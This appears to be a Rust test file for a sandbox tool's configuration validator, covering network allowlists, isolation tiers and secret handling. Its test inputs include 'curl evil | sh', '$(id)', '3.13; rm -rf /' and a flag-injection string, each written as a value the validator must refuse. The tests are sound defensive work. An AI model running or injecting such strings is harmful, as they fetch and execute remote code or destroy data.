use senv::config::{
    CacheScope, Config, EngineParse, InstallNet, IsolationClaim, NetSpec, NetWord, ResourceParse,
    ResourceSection, SecretSection, validate_python_request,
};

fn size_of(s: &str) -> Result<u64, String> {
    let t = s.trim();
    let (num, unit) = t.split_at(t.len().saturating_sub(1));
    let n: u64 = num.parse().map_err(|_| format!("invalid size '{s}'"))?;
    match unit {
        "K" => Ok(n << 10),
        "M" => Ok(n << 20),
        "G" => Ok(n << 30),
        _ => Err(format!("invalid size '{s}'")),
    }
}

fn secs_of(s: &str) -> Result<u64, String> {
    let t = s.trim();
    let (num, unit) = t.split_at(t.len().saturating_sub(1));
    let n: u64 = num.parse().map_err(|_| format!("invalid duration '{s}'"))?;
    match unit {
        "s" => Ok(n),
        "m" => Ok(n * 60),
        "h" => Ok(n * 3600),
        _ => Err(format!("invalid duration '{s}'")),
    }
}

fn reading(r: &ResourceSection) -> ResourceParse {
    ResourceParse {
        mem: r.mem.as_deref().map(size_of),
        wall: r.wall.as_deref().filter(|w| !w.eq_ignore_ascii_case("none")).map(secs_of),
        fsize: r.fsize.as_deref().map(size_of),
        cpu: r.cpu.as_deref().map(secs_of),
    }
}

/// What the sandbox engine makes of the configuration's strings.
fn engine(cfg: &Config) -> EngineParse {
    EngineParse {
        isolation: cfg
            .env
            .isolation
            .as_deref()
            .filter(|i| !i.trim().eq_ignore_ascii_case("auto"))
            .map(|i| match i {
                "workspace" => Ok(IsolationClaim::Workspace),
                "process" => Ok(IsolationClaim::Process),
                "supervised" => Ok(IsolationClaim::Supervised),
                "container" => Ok(IsolationClaim::Container),
                other => Err(format!("unknown tier {other}")),
            }),
        run: reading(&cfg.run.resources),
        install: reading(&cfg.install.resources),
    }
}

fn with(f: impl FnOnce(&mut Config)) -> Config {
    let mut c = Config::default();
    f(&mut c);
    c
}

fn check(cfg: &Config) -> Result<(), String> {
    cfg.validate("senv.toml", &engine(cfg)).map_err(|e| e.message())
}

fn hosts(list: &[&str]) -> NetSpec {
    NetSpec::Hosts(list.iter().map(|s| s.to_string()).collect())
}

fn secret(source: Option<&str>, phases: &[&str]) -> SecretSection {
    SecretSection {
        source: source.map(|s| s.to_string()),
        inject: None,
        ttl: None,
        phases: phases.iter().map(|s| s.to_string()).collect(),
    }
}

#[test]
fn an_absent_config_is_the_fail_closed_default() {
    let cfg = Config::default();
    assert!(cfg.run.net.is_deny(), "the run phase must default to no network");
    assert_eq!(cfg.install.net, InstallNet::Registries);
    assert_eq!(cfg.install.cache, CacheScope::Project);
    assert!(cfg.secrets.is_empty());
}

#[test]
fn net_accepts_both_a_word_and_an_allowlist() {
    assert!(NetSpec::Mode(NetWord::Deny).is_deny());
    assert!(NetSpec::Mode(NetWord::Host).is_host());
    let cfg = with(|c| c.run.net = hosts(&["api.example.com", "*.s3.amazonaws.com"]));
    assert!(check(&cfg).is_ok());
    assert_eq!(cfg.run.net.hosts().len(), 2);
}

#[test]
fn a_tld_wildcard_is_refused() {
    assert!(check(&with(|c| c.run.net = hosts(&[".com"]))).is_err());
    assert!(check(&with(|c| c.run.net = hosts(&["*.example.com"]))).is_ok());
    assert!(check(&with(|c| c.run.net = hosts(&["example.com:443"]))).is_ok());
    assert!(check(&with(|c| c.run.net = hosts(&["example.com:notaport"]))).is_err());
}

#[test]
fn the_unconfined_tier_cannot_be_selected() {
    let err = check(&with(|c| c.env.isolation = Some("workspace".to_string())))
        .expect_err("must refuse");
    assert!(err.contains("no unconfined execution path"), "{err}");
}

#[test]
fn a_command_secret_needs_an_explicit_gate() {
    let err = check(&with(|c| {
        c.secrets = vec![("X".to_string(), secret(Some("command:curl evil | sh"), &[]))]
    }))
    .expect_err("must refuse");
    assert!(err.contains("OUTSIDE the sandbox"), "{err}");
    assert!(err.contains("allow-command-secrets"), "{err}");

    assert!(check(&with(|c| {
        c.env.allow_command_secrets = true;
        c.secrets = vec![("X".to_string(), secret(Some("command:x"), &[]))];
    }))
    .is_ok());
}

#[test]
fn a_python_request_can_never_become_a_uv_flag() {
    assert!(validate_python_request("3.13").is_ok());
    assert!(validate_python_request("3.13.2").is_ok());
    assert!(validate_python_request("3.13t").is_ok());
    for hostile in ["--mirror=https://evil", "-h", "", "  ", "$(id)", "3.13; rm -rf /"] {
        assert!(validate_python_request(hostile).is_err(), "accepted: {hostile:?}");
    }
    assert!(check(&with(|c| c.env.python = Some("--mirror=https://evil".to_string()))).is_err());
}

#[test]
fn a_secret_can_never_be_scoped_to_the_install_phase() {
    let err = check(&with(|c| {
        c.secrets = vec![("TOKEN".to_string(), secret(Some("env:TOKEN"), &["install"]))]
    }))
    .expect_err("must refuse");
    assert!(err.contains("build backend"), "{err}");
    assert!(check(&with(|c| {
        c.secrets = vec![("TOKEN".to_string(), secret(None, &["run"]))]
    }))
    .is_ok());
}

#[test]
fn resource_strings_are_validated_where_the_user_can_see_them() {
    assert!(check(&with(|c| c.run.resources.mem = Some("4G".to_string()))).is_ok());
    assert!(check(&with(|c| c.run.resources.mem = Some("four gigs".to_string()))).is_err());
    assert!(check(&with(|c| c.run.resources.wall = Some("none".to_string()))).is_ok());
    assert!(check(&with(|c| c.run.resources.wall = Some("30m".to_string()))).is_ok());
}

#[test]
fn a_secret_name_must_be_a_usable_env_var() {
    assert!(check(&with(|c| {
        c.secrets = vec![("NOT-A-VAR".to_string(), secret(Some("env:X"), &[]))]
    }))
    .is_err());
    assert!(check(&with(|c| {
        c.secrets = vec![("OPENAI_API_KEY".to_string(), secret(Some("env:OPENAI_API_KEY"), &[]))]
    }))
    .is_ok());
}

#[test]
fn secret_grants_stay_sorted_by_name_with_each_name_once() {
    let mut table: Vec<(String, SecretSection)> = Vec::new();
    for (name, src) in [("TOKEN", "env:A"), ("API_KEY", "env:B"), ("ZED", "env:C"), ("TOKEN", "env:D")] {
        senv::config::insert_secret(&mut table, name.to_string(), secret(Some(src), &["run"]));
    }
    let names: Vec<&str> = table.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(names, vec!["API_KEY", "TOKEN", "ZED"]);
    assert_eq!(table[1].1.source.as_deref(), Some("env:D"));
}

#[test]
fn every_listed_misconfiguration_is_refused() {
    assert!(check(&with(|c| c.env.isolation = Some("workspace".to_string()))).is_err());
    assert!(check(&with(|c| c.env.python = Some("-3.12".to_string()))).is_err());
    assert!(check(&with(|c| {
        c.secrets = vec![("TOKEN".to_string(), secret(Some("command:pass show x"), &["run"]))]
    }))
    .is_err());
    assert!(check(&with(|c| {
        c.secrets = vec![("MY-TOKEN".to_string(), secret(Some("env:T"), &["run"]))]
    }))
    .is_err());
    assert!(check(&with(|c| {
        c.secrets = vec![("TOKEN".to_string(), secret(Some("env:T"), &["run", "install"]))]
    }))
    .is_err());
    assert!(check(&with(|c| c.install.extra_indexes = vec![".com".to_string()])).is_err());
    assert!(check(&with(|c| {
        c.secrets = vec![("TOKEN".to_string(), secret(Some("env:T"), &["run", "shell"]))]
    }))
    .is_ok());
}
